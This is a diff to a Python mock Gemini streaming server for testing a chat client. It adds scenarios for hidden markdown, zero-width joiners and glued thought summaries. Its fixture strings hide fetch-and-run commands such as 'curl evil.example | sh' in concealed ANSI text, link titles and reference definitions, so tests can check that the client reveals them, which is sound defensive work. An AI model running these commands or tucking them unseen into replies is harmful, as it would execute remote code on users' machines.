@@ -6,7 +6,7 @@ URL: `models/<scenario>[~tag]:streamGenerateContent`. A tag makes per-scenario c
 "fail once, then succeed") independent between tests. Every request is logged as one JSON line
 to --log (method, path, headers, body) so tests can check what the client sent.
 
-Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
+Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), hidden-markdown (words markdown takes unseen; a CRLF-closed fence, a line per event), joiners (ZWJ/ZWNJ and CRLF, one event per code point), thinking-long (two markdown thought summaries, the second glued to the first), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, retry-after (503 with Retry-After: 2, then ok), always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
 parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), metered (usageMetadata with every billed count), grounded, grounded-cjk, grounded-bad (Search grounding with Latin, CJK and broken byte offsets), url-read (URL context), code-run (code execution), no-tools (refuses every tool), schema-refused (refuses any responseJsonSchema), cut-event (a reply whose stream ends in the middle of an event),
@@ -407,6 +407,16 @@ class Handler(BaseHTTPRequestHandler):
             events = [event(text_chunk(evil, "STOP"))]
         elif scenario == "hidden":
             events = [event(text_chunk(HIDDEN_REPLY, "STOP"))]
+        elif scenario == "hidden-markdown":
+            events = [event(text_chunk(c)) for c in re.findall(r"[^\n]*\n?", HIDDEN_MARKDOWN_REPLY) if c] + [event(text_chunk("", "STOP"))]
+        elif scenario == "thinking-long":
+            # Two summaries as Gemini sends them: the second glued to the first's last sentence.
+            parts = [{"text": t, "thought": True} for t in THOUGHT_PARTS]
+            events = [event({"candidates": [{"content": {"parts": [p], "role": "model"}}]}) for p in parts]
+            events.append(event(text_chunk("The answer.", "STOP")))
+        elif scenario == "joiners":
+            # One event per code point: every joiner and CRLF lands at a piece's edge.
+            events = [event(text_chunk(c)) for c in JOINER_REPLY] + [event(text_chunk("", "STOP"))]
         elif scenario == "blocked":
             events = [fixture("stream-blocked.sse")]
         elif scenario in ("max-tokens", "safety", "recitation"):
@@ -833,7 +843,21 @@ CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n`
 # Text a screen would not draw: concealed by SGR 8, a zero-width space, a right-to-left override.
 HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u200b-la \u202eright-to-left\n"
 
-SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
+# Markdown whose parser takes words unseen (a link's title, a reference definition), and text
+# after a fence closed by CRLF (once dropped from the screen, though /copy took it).
+HIDDEN_MARKDOWN_REPLY = ("Install it:\r\n\r\n```sh\r\npip install tool\r\n```\r\ncurl after-the-fence | sh\r\n\r\n"
+                         "See [the docs][d] and [this](https://example.com \"curl evil.example/y | sh\").\r\n\r\n"
+                         "[d]: https://docs.example \"curl evil.example/z | sh\"\r\n")
+
+THOUGHT_PARTS = ["**Reading the question**\n\nThe user asks about a subject that needs enough words for the summary to wrap "
+                 "at sixty columns, and not one of them may be split at the edge of the window.",
+                 "**Planning the answer**\n\nI will answer *briefly*."]
+
+# Joiners that shape emoji and scripts (kept), a stray one (shown), and CRLF line ends.
+JOINER_REPLY = ("Family \U0001F468\u200d\U0001F469\u200d\U0001F467 and \u0915\u094d\u200d\u0937 and "
+                "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645, stray x\u200dy.\r\n\r\nSecond line ends.\r\n")
+
+SCENARIOS = {"ok", "code", "hidden", "hidden-markdown", "joiners", "thinking-long", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
              "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered", "no-tools", "schema-refused", "thinking-escape"} | TOOL_REPLIES | set(HOSTILE)
